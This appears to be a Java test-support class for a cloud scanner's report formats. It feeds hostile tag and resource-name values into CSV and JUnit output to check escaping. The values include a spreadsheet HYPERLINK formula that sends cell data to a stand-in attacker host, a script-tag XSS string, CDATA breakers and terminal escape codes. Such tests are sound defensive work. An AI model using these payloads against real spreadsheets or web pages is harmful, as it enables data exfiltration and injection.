package io.relyscan.report;

import io.relyscan.core.engine.ScanReport;
import io.relyscan.core.fixture.InventoryFixture;
import io.relyscan.core.inventory.DbInstance;
import io.relyscan.core.inventory.Inventory;
import io.relyscan.core.rule.Finding;
import io.relyscan.core.rule.Outcome;
import io.relyscan.core.rule.Severity;
import io.relyscan.core.waiver.Waiver;
import io.relyscan.core.waiver.WaiverSet;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Hostile values for the CSV and JUnit tests: what a tag or resource name in a scanned account may hold. */
final class ReportFormatsTestSupport {
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1", "-2",
            "@x", "\tTAB", "\rCR", "say \"hi\", then, leave", "line1\nline2\r\nline3", "<script>alert(1)</script>",
            "a]]>b", "ctl\u0001\u0007\u001b[31m\u0000x", "emoji \ud83d\ude80 and unpaired \ud800", "&amp; 'q'",
            "plain");

    private ReportFormatsTestSupport() {
    }

    /** One finding per hostile value (in resource name, ARN, message and evidence), cycling outcomes. */
    static ScanReport hostileReport() {
        Inventory inv = InventoryFixture.create().dbInstance("db", d -> d).build();
        DbInstance db = inv.all(DbInstance.class).get(0);
        List<Finding> findings = new ArrayList<>();
        Outcome[] outcomes = Outcome.values();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String h = HOSTILE.get(i);
            Map<String, Object> evidence = new LinkedHashMap<>();
            evidence.put("tag", h);
            findings.add(new Finding(null, "rds-instance-multi-az", String.format("%02d", i) + h, db.typeName(), h,
                    db.account(), db.region(), outcomes[i % outcomes.length], Severity.HIGH, h, evidence,
                    Map.of()));
        }
        return ScanReport.of("1", inv, List.of(ReportFixtures.RDS_MULTI_AZ), findings);
    }

    /**
     * The fixture's hostile waiver (id, reason and owner with HTML, quotes, &amp;, formula text and terminal
     * escapes), made to suppress the Multi-AZ failures so that its text reaches the finding rows of every format.
     */
    static ScanReport hostileWaiverReport() {
        Waiver hostile = ReportFixtures.waivers().waivers().get(2);
        Waiver matching = new Waiver(hostile.id(), ReportFixtures.RDS_MULTI_AZ.id(), hostile.resourcePattern(), null,
                null, hostile.reason(), hostile.owner(), hostile.expires(), hostile.source());
        return new WaiverSet(List.of(matching)).apply(ReportFixtures.unwaivedReport());
    }
}
